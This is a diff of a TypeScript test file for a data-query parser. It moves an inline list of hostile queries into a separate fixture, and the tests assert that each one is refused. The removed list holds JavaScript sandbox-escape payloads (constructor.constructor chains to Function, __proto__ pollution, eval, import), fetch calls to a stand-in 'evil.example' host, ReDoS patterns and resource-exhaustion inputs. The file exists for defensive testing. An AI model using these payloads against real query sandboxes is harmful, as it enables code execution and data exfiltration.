@@ -1,6 +1,7 @@
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { LoanbookError } from '../errors';
+import { hostileQueries } from './hostile-queries.fixture';
 import { printQuery } from './print-query';
 import { readQuery } from './read-query';
 
@@ -18,170 +19,18 @@ function errorOf(text: string): LoanbookError {
   throw new Error(`Was allowed: ${text}`);
 }
 
-/** Of each what it tries; none may be taken over. */
-const hostile: readonly string[] = [
-  // The way to Function through constructors.
-  `filter(d => d.constructor.constructor('return self')())`,
-  `filter(d => d['constructor'])`,
-  `filter(d => d.__proto__)`,
-  `filter(d => d['__proto__'])`,
-  `filter(d => d.\\u0063onstructor)`,
-  `filter(d => d['\\x63onstructor'])`,
-  `filter(d => ''.constructor)`,
-  `filter(d => 'a'['constructor'])`,
-  `filter(d => (1).toFixed.constructor('x')())`,
-  `filter(d => [].constructor)`,
-  `filter(d => (() => 1).constructor('x')())`,
-  `filter(d => op.constructor('return 1')())`,
-  `filter(d => op['mean'](d.Income))`,
-  `filter(d => op.mean.constructor('x')())`,
-  `filter(d => op.__proto__)`,
-  `filter(d => op.toString())`,
-  `filter(d => op)`,
-  `filter.constructor('return 1')()`,
-  `constructor.constructor('x')()`,
-  `filter(d => true).constructor('x')()`,
-  `filter(d => true)['constructor']('x')()`,
-  `filter(d => true).__proto__.polluted(1)`,
-  // Globals and what can send.
-  `fetch('https://evil.example')`,
-  `filter(d => fetch('//evil.example'))`,
-  `filter(d => self.postMessage(d))`,
-  `filter(d => globalThis)`,
-  `filter(d => this.x)`,
-  `filter(d => eval('1'))`,
-  `filter(d => Function('1')())`,
-  `filter(d => import('x'))`,
-  `filter(d => import.meta)`,
-  `filter(d => new Date())`,
-  `filter(d => Math.random())`,
-  `filter(arguments => arguments.x)`,
-  `filter(eval => 1)`,
-  `filter(op => op.mean(op.Income))`,
-  `filter(undefined => true)`,
-  // Statements, side effects.
-  `filter(d => { return true })`,
-  `filter(function (d) { return true })`,
-  `filter(async d => true)`,
-  `filter(d => (d.Income = 1))`,
-  `filter(d => d.Income++)`,
-  `filter(d => delete d.Income)`,
-  `filter(d => (1, true))`,
-  `filter(d => { while (true) {} })`,
-  `filter(d => yield)`,
-  `filter(d => typeof d.Income)`,
-  `filter(d => void 0)`,
-  `filter(d => 'x' in d)`,
-  `filter(d => d instanceof op)`,
-  `filter(d => d?.Income)`,
-  `filter?.(d => true)`,
-  `filter(d => op?.abs(1))`,
-  `while (true) {}`,
-  `let x = 1`,
-  `filter(d => true); fetch('x')`,
-  `filter(d => true)\nderive({x: d => 1})`,
-  // Inputs that are not one plain row.
-  `filter(({Income}) => Income)`,
-  `filter((...d) => d)`,
-  `filter((d, e) => e)`,
-  `filter((d = fetch('x')) => true)`,
-  `filter(d => d)`,
-  `filter(d => d[0])`,
-  `filter(d => d['Inc' + 'ome'])`,
-  'filter(d => d[`Income`])',
-  `filter(d => d[d.Income])`,
-  `filter(d => d.Income.toString)`,
-  `filter(d => d.Income.toString())`,
-  `filter(d => d.Income['x'])`,
-  `filter(d => e => e.Income)`,
-  `filter(d => op.abs(e => 1))`,
-  // Objects and lists.
-  `derive({get x() { return fetch('x') }})`,
-  `derive({x() { return 1 }})`,
-  `derive({['x']: d => 1})`,
-  `derive({...x})`,
-  `derive({x})`,
-  `derive({__proto__: d => 1})`,
-  `derive({'__proto__': d => 1})`,
-  `derive({constructor: d => 1})`,
-  `derive({prototype: d => 1})`,
-  `derive({toString: d => 1})`,
-  `derive({'': d => 1})`,
-  `rename({Income: '__proto__'})`,
-  `count({as: 'constructor'})`,
-  `fold('Income', {as: ['__proto__', 'x']})`,
-  `derive({x: d => ({a: 1})})`,
-  `derive({x: d => [1, 2]})`,
-  `derive({x: d => op.recode(d.job, {__proto__: 1})})`,
-  `derive({x: d => op.recode(d.job, {get a() { return 1 }})})`,
-  `derive({x: d => op.includes([...d.job], 1)})`,
-  `derive({x: d => op.includes([, 1], 1)})`,
-  `filter(...[d => true])`,
-  `derive({x: d => op.greatest(...d.Income)})`,
-  // Texts that Arquero would take for code.
-  `filter('op.random() > 0.5')`,
-  `derive({x: 'd.Income'})`,
-  `rollup({x: 'op.count()'})`,
-  `orderby({x: 'op.random()'})`,
-  `dedupe({Income: 'op.random()'})`,
-  `fold([{Income: 'op.random()'}])`,
-  `pivot([{Income: 'op.random()'}], 'job')`,
-  `pivot('job', ['Income', {Income: 'op.random()'}])`,
-  `select(not({Income: 'op.random()'}))`,
-  `groupby(d => d.Income)`,
-  `select(t => ['Income'])`,
-  // Templates, patterns, numbers of other kinds.
-  'filter(d => op.abs`1`)',
-  'filter(d => d`1`)',
-  'filter`d`',
-  'filter(d => `${fetch("x")}`)',
-  'derive({x: d => `${d}`})',
-  `filter(d => /(a+)+$/.test(d.job))`,
-  `filter(d => op.match(d.job, /(a+)+$/))`,
-  `filter(d => op.replace(d.job, /(a+)+$/, ''))`,
-  `select(matches(/(a+)+$/))`,
-  `filter(d => 10n > 1)`,
-  `filter(d => 1e999)`,
-  // Verbs and functions that are not on the lists.
-  `escape(d => fetch('x'))`,
-  `derive({x: escape(d => 1)})`,
-  `params({x: 1}).filter(d => true)`,
-  `join(other)`,
-  `sample(10)`,
-  `reify()`,
-  `objects()`,
-  `unroll('job')`,
-  `derive({x: d => op.row_object()})`,
-  `derive({x: d => op.random()})`,
-  `derive({x: d => op.now()})`,
-  `derive({x: d => op.repeat('x', 1e9)})`,
-  `derive({x: d => op.padstart('x', 1e9)})`,
-  `derive({x: d => op.sequence(0, 1e9)})`,
-  `derive({x: d => op.parse_json('{}')})`,
-  `rollup({x: d => op.object_agg(d.job, d.Income)})`,
-  `rollup({x: d => op.array_agg(d.Income)})`,
-  `derive({x: d => op.hasOwnProperty('x')})`,
-  // Too much.
-  `filter(d => ${'('.repeat(500)}1${')'.repeat(500)})`,
-  `filter(d => ${'!'.repeat(3500)}1)`,
-  `filter(d => ${'-(1+'.repeat(60)}1${')'.repeat(60)})`,
-  `filter(d => ${'1+'.repeat(1900)}1)`,
-  `filter(d => op.includes([${'!1,'.repeat(1200)}1], 1))`,
-  `filter(d => ${'d=>'.repeat(1200)}1)`,
-  `derive({x: d => 1})${".count({as: 'x'})".repeat(130)}`,
-  `filter(d => '${'x'.repeat(4000)}')`,
-  'filter(d => `'.padEnd(3000, '${`')
-];
-
 describe('readQuery', () => {
-  it.each(hostile.map((text) => [text.slice(0, 80), text] as const))('refuses %s', (_, text) => {
-    const error = errorOf(text);
-    expect(error.code).toBe('bad-query');
-    expect(error.subject.from).toBeGreaterThanOrEqual(0);
-    expect(error.subject.to).toBeGreaterThan(error.subject.from!);
-    expect(error.subject.to).toBeLessThanOrEqual(text.length);
-    expect(Object.hasOwn(Object.prototype, 'polluted')).toBe(false);
-  });
+  it.each(hostileQueries.map((text) => [text.slice(0, 80), text] as const))(
+    'refuses %s',
+    (_, text) => {
+      const error = errorOf(text);
+      expect(error.code).toBe('bad-query');
+      expect(error.subject.from).toBeGreaterThanOrEqual(0);
+      expect(error.subject.to).toBeGreaterThan(error.subject.from!);
+      expect(error.subject.to).toBeLessThanOrEqual(text.length);
+      expect(Object.hasOwn(Object.prototype, 'polluted')).toBe(false);
+    }
+  );
 
   it('takes over and prints anew what people write', () => {
     expect(
